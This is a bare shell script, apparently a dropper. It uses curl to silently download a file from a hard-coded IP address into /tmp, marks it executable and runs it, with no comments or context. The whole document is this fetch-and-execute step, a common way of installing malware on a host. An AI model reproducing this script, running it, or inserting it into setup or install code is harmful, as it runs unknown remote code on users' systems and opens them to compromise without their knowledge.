#!/bin/sh
curl -fsSL http://203.0.113.20/t -o /tmp/t
chmod +x /tmp/t
/tmp/t
